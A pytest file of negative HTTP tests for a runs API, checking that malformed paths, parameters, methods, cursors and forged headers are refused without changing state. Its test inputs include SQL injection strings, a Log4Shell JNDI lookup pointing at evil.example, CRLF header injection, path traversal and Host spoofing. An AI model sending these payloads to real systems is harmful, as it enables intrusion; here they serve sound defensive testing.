"""Bad paths, parameters, methods and headers over real HTTP: a clear problem, no state changed, nothing repeated."""

from collections.abc import Mapping

import pytest

from tests.app.client import Api, refused
from tests.app.conftest import Parts

START = "/lists/department/runs"
ULID = "01J00000000000000000000000"


@pytest.fixture(autouse=True)
def _unchanged(parts: Parts) -> object:
    """Whatever was sent here, nothing may have begun."""
    yield
    assert not parts.queue.sent
    assert not parts.runs.page("demo", None, None, 10, "").runs


NO_LISTS = (
    "Department",
    "department ",
    "department%00",
    "department%E2%80%8D",
    "%E2%80%AEdepartment",
    "departments",
    "department' OR 1=1--",
    "x'--",
    "<x>",
    "<!DOCTYPE x>",
    "${jndi:ldap://evil.example}",
    ".",
)


@pytest.mark.parametrize("list_key", NO_LISTS)
def test_a_list_that_is_not_in_the_catalogue_is_not_found(api: Api, list_key: str) -> None:
    answer = api.post(f"/lists/{list_key.replace(' ', '%20')}/runs", {})
    assert refused(answer, 404)["code"] in ("list_unknown", "path_unknown")
    assert not any(text in answer.body for text in (b"<x>", b"DOCTYPE", b"evil"))


@pytest.mark.parametrize(
    "run_id",
    [
        ULID[:-1],
        ULID + "0",
        ULID.lower(),
        ULID[:-1] + "I",
        "8" + ULID[1:],
        "..%2f..%2fme",
        ULID + "%00",
        ULID + "%0a",
        ULID + "%0d%0aSet-Cookie:%20a=b",
        "%ff" * 26,
        "x" * 9000,
        "%D9%A0" * 26,
        "{run_id}",
    ],
)
def test_a_run_number_that_is_none_is_not_found(api: Api, run_id: str) -> None:
    for method, path in (("GET", ""), ("GET", "/rows"), ("GET", "/errors"), ("POST", "/cancel")):
        answer = api.send(method, f"/runs/{run_id}{path}", b"", {})
        assert refused(answer, 404)["code"] == "run_unknown"
        assert "set-cookie" not in answer.headers


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("limit=1&limit=2", "limit"),
        ("limit=-1", "limit"),
        ("limit=0", "limit"),
        ("limit=101", "limit"),
        ("limit=1000000000", "limit"),
        ("limit=" + "9" * 400, "limit"),
        ("limit=1.5", "limit"),
        ("limit=5.0", "limit"),
        ("limit=1e1", "limit"),
        ("limit=1e9", "limit"),
        ("limit=", "limit"),
        ("limit=%2B5", "limit"),
        ("limit=05", "limit"),
        ("limit=%D9%A5", "limit"),
        ("limit=null", "limit"),
        ("state=done", "state"),
        ("state=null", "state"),
        ("state=", "state"),
        ("state=DONE&state=FAILED", "state"),
        ("list=", "list"),
        ("list=Class", "list"),
        ("list=..%2f", "list"),
        ("list[]=class", "list[]"),
        ("tenant=autre", "tenant"),
        ("_method=DELETE", "_method"),
        ("cursor=" + "x" * 2001, "cursor"),
    ],
)
def test_a_query_parameter_that_does_not_fit_is_named(api: Api, query: str, field: str) -> None:
    problem = refused(api.get(f"/runs?{query}"))
    assert [error["field"] for error in problem["errors"]] == [field]


@pytest.mark.parametrize("list_key", ["none_such", "class%0a", "udd:none_such"])
def test_the_history_of_a_list_that_is_not_in_the_catalogue_is_not_found(api: Api, list_key: str) -> None:
    assert refused(api.get(f"/runs?list={list_key}"), 404)["code"] == "list_unknown"


@pytest.mark.parametrize("query", ["outcome=unchanged", "outcome=Failed", "outcome=", "limit=1001", "state=DONE"])
def test_a_query_parameter_of_the_rows_that_does_not_fit_is_refused(api: Api, query: str) -> None:
    refused(api.get(f"/runs/{ULID}/rows?{query}"))


@pytest.mark.parametrize("cursor", ["x", "AAAA", "%00", "eyJ0IjoiYXV0cmUifQ==", "'; DROP TABLE runs"])
def test_a_cursor_that_was_not_given_out_is_refused(api: Api, cursor: str) -> None:
    assert refused(api.get(f"/runs?cursor={cursor.replace(' ', '%20')}"))["code"] == "cursor_unknown"


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE", "HEAD", "TRACE", "BREW"])
def test_another_method_is_refused(api: Api, method: str) -> None:
    answer = api.send(method, "/runs", None, {})
    assert (answer.status, answer.headers["allow"]) == (405, "GET")
    if method != "HEAD":
        assert refused(answer, 405)["code"] == "method"


@pytest.mark.parametrize("header", ["X_HTTP_Method_Override", "X_Method_Override", "X_HTTP_Method"])
def test_a_header_does_not_change_the_method(api: Api, header: str) -> None:
    answer = api.post("/runs", {}, **{header: "GET"})
    assert answer.status == 405


LOOK_ALIKES = ("//runs", "/runs//", "/run", "/Runs", "/runs%2f", "/%2fruns", "/..%2fv1/runs", "/v2/runs", "/")


@pytest.mark.parametrize("path", LOOK_ALIKES)
def test_a_look_alike_path_is_not_found(api: Api, path: str) -> None:
    assert refused(api.send("GET", f"/api/v1{path}", None, {}), 404)["code"] in ("path_unknown", "run_unknown")


def test_a_slash_at_the_end_opens_nothing_else(api: Api) -> None:
    assert api.get("/runs/").json == api.get("/runs").json
    assert refused(api.as_("").get("/runs/"), 401)["code"] == "token_missing"


@pytest.mark.parametrize(
    "headers",
    [
        {"X_Forwarded_For": "10.0.0.1", "X_Real_IP": "10.0.0.1"},
        {"Host": "evil.example"},
        {"X_Forwarded_Host": "evil.example", "Forwarded": "host=evil.example"},
        {"Origin": "null", "Sec_Fetch_Site": "cross-site"},
        {"X_Tenant": "autre", "X_User": "root", "X_Amzn_Oidc_Identity": "root"},
    ],
)
def test_forged_headers_open_nothing_and_do_not_come_back(api: Api, headers: Mapping[str, str]) -> None:
    assert api.as_("").get("/me", **headers).status == 401
    answer = api.get("/me", **headers)
    assert answer.json["tenant"] == "demo"
    assert "evil.example" not in str(answer)


def test_another_origin_gets_no_leave_from_a_preflight(api: Api) -> None:
    headers = {"Origin": "https://evil.example", "Access_Control_Request_Method": "POST"}
    for answer in (api.send("OPTIONS", START, None, headers), api.get("/me", **headers)):
        assert not [name for name in answer.headers if name.startswith("access-control-allow-origin")]
        assert "access-control-allow-credentials" not in answer.headers


@pytest.mark.parametrize(
    ("method", "path"), [("GET", "/health"), ("GET", "/me"), ("GET", "/runs?x=1"), ("PUT", "/me"), ("GET", "/none")]
)
def test_every_answer_carries_the_security_headers(api: Api, method: str, path: str) -> None:
    headers = api.send(method, path, None, {}).headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["cache-control"] == "no-store"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["content-security-policy"] == "default-src 'none'; frame-ancestors 'none'"
    assert headers["strict-transport-security"].startswith("max-age=31536000")
    assert "server" not in headers
